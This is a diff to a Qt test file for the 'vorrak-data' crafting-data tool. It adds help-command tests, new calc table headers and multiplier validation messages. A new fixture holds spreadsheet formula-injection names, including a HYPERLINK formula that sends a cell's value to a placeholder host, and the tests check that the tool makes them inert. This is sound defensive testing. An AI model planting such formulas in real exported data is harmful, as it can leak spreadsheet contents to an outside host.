@@ -210,12 +210,30 @@ private slots:
         QCOMPARE(QString::fromUtf8(validator.readAllStandardOutput()).split('\n', Qt::SkipEmptyParts), expected);
     }
 
+    void help_data()
+    {
+        QTest::addColumn<QString>("command");
+        for (const char *command : {"export", "import", "check", "lint", "web", "calc"})
+            QTest::newRow(command) << QString::fromLatin1(command);
+    }
+
+    // Every command answers --help, -h and "help COMMAND" alike, with its
+    // own lines of the full usage text, and takes neither for a file name.
     void help()
     {
-        const Result result = run({QStringLiteral("--help")});
-        QCOMPARE(result.exitCode, 0);
-        QVERIFY(result.out.contains("vorrak-data import JSON OUT"));
-        QCOMPARE(result.err, QByteArray());
+        QFETCH(QString, command);
+        const Result full = run({QStringLiteral("--help")});
+        QCOMPARE(full.exitCode, 0);
+        QCOMPARE(full.err, QByteArray());
+        for (const QStringList &arguments : {QStringList{command, "--help"}, QStringList{command, "-h"},
+                                             QStringList{"help", command}, QStringList{command, "x.dat", "--help"}}) {
+            const Result result = run(arguments);
+            QCOMPARE(result.exitCode, 0);
+            QCOMPARE(result.err, QByteArray());
+            QVERIFY2(result.out.startsWith("Usage:\n  vorrak-data " + command.toUtf8() + ' '), result.out.constData());
+            QVERIFY(full.out.contains(result.out.mid(int(qstrlen("Usage:\n")))));
+        }
+        QCOMPARE(QDir(m_dir->path()).entryList(QDir::NoDotAndDotDot | QDir::AllEntries), QStringList());
     }
 
     void errorsWriteNothing_data()
@@ -232,6 +250,8 @@ private slots:
         QTest::newRow("no command") << QStringList() << 2 << exact("vorrak-data: missing command" + see);
         QTest::newRow("unknown command") << QStringList{"convert", "good.dat"} << 2
                                          << exact("vorrak-data: unknown command \"convert\"" + see);
+        QTest::newRow("help for an unknown command") << QStringList{"help", "convert"} << 2
+                                                     << exact("vorrak-data: unknown command \"convert\"" + see);
         QTest::newRow("export without file") << QStringList{"export"} << 2
                                              << exact("vorrak-data: export takes one file: vorrak-data export FILE [-o OUT]" + see);
         QTest::newRow("export two files") << QStringList{"export", "good.dat", "out.dat"} << 2
@@ -365,8 +385,8 @@ private slots:
                                             "Gloves: QL 20 to 150\n4 Jewelcrafting\n  1 Polished Garnet Ring: QL 40 to "
                                             "220\n")
                               << QByteArray();
-        const QByteArray shortsword50 = "Iron Shortsword\t50\nIron Ingot\t25\nLeather Grip\t13\nSmithing Hammer\tFixed\n"
-                                        "Mechanical Engineering\t20\nWeaponsmithing\t63\n";
+        const QByteArray shortsword50 = "Iron Shortsword\t50\nTools/Items\nIron Ingot\t25\nLeather Grip\t13\n"
+                                        "Smithing Hammer\tFixed\nSkills\nMechanical Engineering\t20\nWeaponsmithing\t63\n";
         QTest::newRow("amounts by position") << QStringList{"calc", "1", "1", "50"} << 0 << shortsword50 << QByteArray();
         QTest::newRow("amounts by name prefix") << QStringList{"calc", "WEAP", "iron s", "50"} << 0 << shortsword50
                                                 << QByteArray();
@@ -400,13 +420,45 @@ private slots:
                                                                "within reach\nlimited by: Weaponsmithing\n")
                                                  << QByteArray();
         QTest::newRow("table") << QStringList{"calc", "1", "1", "--table", "1-3"} << 0
-                               << QByteArray("QL,Iron Ingot,Leather Grip,Smithing Hammer,Mechanical Engineering,"
-                                             "Weaponsmithing\n1,1,1,Fixed,1,2\n2,1,1,Fixed,1,3\n3,2,1,Fixed,2,4\n")
+                               << QByteArray("QL,Iron Ingot (item QL),Leather Grip (item QL),Smithing Hammer (item QL),"
+                                             "Mechanical Engineering (skill value),Weaponsmithing (skill value)\n"
+                                             "1,1,1,Fixed,1,2\n2,1,1,Fixed,1,3\n3,2,1,Fixed,2,4\n")
                                << QByteArray();
         QTest::newRow("table of a special process") << QStringList{"calc", "1", "3", "--table"} << 0
-                                                    << QByteArray("QL,Ancestral Anvil,Starmetal Ingot,Runecarving,"
-                                                                  "Weaponsmithing\n200,Fixed,10,Fixed,500\n")
+                                                    << QByteArray("QL,Ancestral Anvil (item QL),Starmetal Ingot (item "
+                                                                  "QL),Runecarving (skill value),Weaponsmithing (skill "
+                                                                  "value)\n200,Fixed,10,Fixed,500\n")
                                                     << QByteArray();
+        // Names a spreadsheet would take for formulas get an apostrophe; a tab
+        // or line break in a name can't start a cell or line of its own;
+        // amounts keep every digit, negative ones stay numbers; JSON is exact.
+        const QByteArray zeros(400, '0');
+        QTest::newRow("formulas made inert") << QStringList{"calc", "--file", "other/hostile.json", "1", "1", "1"} << 0
+                                             << "'@Proc\t1\nTools/Items\n-2.5\t-12345678.9\n'=HYPERLINK(\"http://x/\"&A1,"
+                                                "\"Click\")\t-0.5\nSkills\n'+skill\t1\nTab here =cmd\t1" + zeros + "\n"
+                                             << QByteArray();
+        QTest::newRow("formulas made inert in the table")
+            << QStringList{"calc", "--file", "other/hostile.json", "1", "1", "--table"} << 0
+            << "QL,'-2.5 (item QL),\"'=HYPERLINK(\"\"http://x/\"\"&A1,\"\"Click\"\") (item QL)\",'+skill (skill value),"
+               "\"Tab\there\n=cmd (skill value)\"\n1,-12345678.9,-0.5,1,1" + zeros + "\n2,-24691357.8,-1,1,2" + zeros + "\n"
+            << QByteArray();
+        QTest::newRow("formulas made inert in the skill answer")
+            << QStringList{"calc", "--file", "other/hostile.json", "=", "@", "--skill", "+skill=1"} << 0
+            << QByteArray("'@Proc: highest QL 2 (range 1 to 2)\nlimited by: the process's highest QL\nunknown, not "
+                          "taken into account: Tab here =cmd\n")
+            << QByteArray();
+        QTest::newRow("formulas made inert in the list") << QStringList{"calc", "--file", "other/hostile.json", "--list"}
+                                                         << 0 << QByteArray("1 '=Group\n  1 '@Proc: QL 1 to 2\n")
+                                                         << QByteArray();
+        QTest::newRow("formulas left exact in JSON")
+            << QStringList{"calc", "--json", "--file", "other/hostile.json", "1", "1", "2"} << 0
+            << "{\n    \"group\": \"=Group\",\n    \"items\": [\n        {\n            \"amount\": \"-24691357.8\",\n"
+               "            \"name\": \"-2.5\"\n        },\n        {\n            \"amount\": \"-1\",\n            "
+               "\"name\": \"=HYPERLINK(\\\"http://x/\\\"&A1,\\\"Click\\\")\"\n        }\n    ],\n    \"process\": "
+               "\"@Proc\",\n    \"ql\": 2,\n    \"skills\": [\n        {\n            \"amount\": \"1\",\n            "
+               "\"name\": \"+skill\"\n        },\n        {\n            \"amount\": \"2" + zeros + "\",\n            "
+               "\"name\": \"Tab\\there\\n=cmd\"\n        }\n    ]\n}\n"
+            << QByteArray();
 
         QTest::newRow("unknown group") << QStringList{"calc", "Cooking", "1", "1"} << 1 << QByteArray()
                                        << QByteArray("vorrak-data: calc: no group \"Cooking\"; there are 1 "
@@ -535,6 +587,26 @@ private slots:
                           "other/mistakes.json: group 3 \"A\", process 1 \"P\", requirement 1 \"\": the name is empty\n"
                           "other/mistakes.json: group 3 \"A\", process 1 \"P\", requirement 1 \"\": multiplier \"\" "
                           "is no number, so it counts as 0 (Fixed)\n"
+                          "other/mistakes.json: group 4 \"B\", process 1 \"Q\": Min QL is 0, a QL no product has (at "
+                          "QL 0 every amount is 0)\n"
+                          "other/mistakes.json: group 4 \"B\", process 1 \"Q\", requirement 1 \"R1\": multiplier \"1,5\" "
+                          "is not a plain decimal number, so it counts as 1\n"
+                          "other/mistakes.json: group 4 \"B\", process 1 \"Q\", requirement 2 \"R2\": multiplier \"0.5x\" "
+                          "is not a plain decimal number, so it counts as 0.5\n"
+                          "other/mistakes.json: group 4 \"B\", process 1 \"Q\", requirement 3 \"R3\": multiplier "
+                          "\"1.25.3\" is not a plain decimal number, so it counts as 1.25\n"
+                          "other/mistakes.json: group 4 \"B\", process 1 \"Q\", requirement 4 \"R4\": multiplier \"+2\" "
+                          "is not a plain decimal number, so it counts as 2\n"
+                          "other/mistakes.json: group 4 \"B\", process 1 \"Q\", requirement 5 \"R5\": multiplier \"-0.5\" "
+                          "is negative, so its amounts are below 0\n"
+                          "other/mistakes.json: group 4 \"B\", process 1 \"Q\", requirement 6 \"R6\": multiplier \"0,5\" "
+                          "is not a plain decimal number, so it counts as 0 (Fixed)\n"
+                          "other/mistakes.json: group 4 \"B\", process 1 \"Q\", requirement 7 \"R7\": multiplier "
+                          "\" 1e2\" is not a plain decimal number, so it counts as 100\n"
+                          "other/mistakes.json: group 4 \"B\", process 2 \"Z\": Min QL is 0, a QL no product has (at "
+                          "QL 0 every amount is 0)\n"
+                          "other/mistakes.json: group 4 \"B\", process 2 \"Z\": Max QL is 0, so the process is made at "
+                          "QL 0 only\n"
                           "other/mistakes.json: groups: group \"A\" appears 2 times\n")
             << QByteArray();
     }
@@ -552,13 +624,33 @@ private slots:
         QVERIFY(QDir(m_dir->path()).mkpath(QStringLiteral("other")));
         QVERIFY(m_dir->write(QStringLiteral("other/data.dat"), data));
         QVERIFY(m_dir->write(QStringLiteral("other/help.hlp"), hexBytes("E9 A7 14 3D 00 00")));
-        QVERIFY(m_dir->write(QStringLiteral("other/mistakes.json"), QByteArray(R"({"format": "vorrak-data", "groups": [
+        const QByteArray mistakes = R"({"format": "vorrak-data", "groups": [
             {"name": "A", "procs": [{"name": "", "maxQL": 3, "minQL": 9, "reqs": [
                 {"name": "R", "multiplier": "x2", "t": 0, "id": 0},
                 {"name": "R", "multiplier": "0", "t": 2, "id": 0}]}]},
             {"name": "", "procs": []},
             {"name": "A", "procs": [{"name": "P", "maxQL": 3, "minQL": 1, "reqs": [
-                {"name": "", "multiplier": "", "t": 1, "id": 0}]}]}]})")));
+                {"name": "", "multiplier": "", "t": 1, "id": 0}]}]},
+            {"name": "B", "procs": [{"name": "Q", "maxQL": 9, "minQL": 0, "reqs": [
+                {"name": "R1", "multiplier": "1,5", "t": 0, "id": 0},
+                {"name": "R2", "multiplier": "0.5x", "t": 0, "id": 0},
+                {"name": "R3", "multiplier": "1.25.3", "t": 0, "id": 0},
+                {"name": "R4", "multiplier": "+2", "t": 0, "id": 0},
+                {"name": "R5", "multiplier": "-0.5", "t": 0, "id": 0},
+                {"name": "R6", "multiplier": "0,5", "t": 0, "id": 0},
+                {"name": "R7", "multiplier": " 1e2", "t": 0, "id": 0},
+                {"name": "R8", "multiplier": "12.50", "t": 0, "id": 0}]},
+                {"name": "Z", "maxQL": 0, "minQL": 0, "reqs": []}]}]})";
+        QVERIFY(m_dir->write(QStringLiteral("other/mistakes.json"), mistakes));
+        // Names a spreadsheet takes for formulas. Brackets and slashes are JSON
+        // escapes: moc reads a raw string as if it were an ordinary one.
+        const QByteArray hostile = R"({"format": "vorrak-data", "groups": [
+            {"name": "=Group", "procs": [{"name": "@Proc", "maxQL": 2, "minQL": 1, "reqs": [
+                {"name": "=HYPERLINK\u0028\u0022http:\u002f\u002fx/\u0022&A1,\u0022Click\u0022\u0029", "multiplier": "-0.5", "t": 0, "id": 0},
+                {"name": "-2.5", "multiplier": "-12345678.9", "t": 0, "id": 0},
+                {"name": "Tab\there\n=cmd", "multiplier": "1e400", "t": 1, "id": 0},
+                {"name": "+skill", "multiplier": "0.07", "t": 1, "id": 0}]}]}]})";
+        QVERIFY(m_dir->write(QStringLiteral("other/hostile.json"), hostile));
 
         const Result result = run(arguments);
         QCOMPARE(result.err, err);
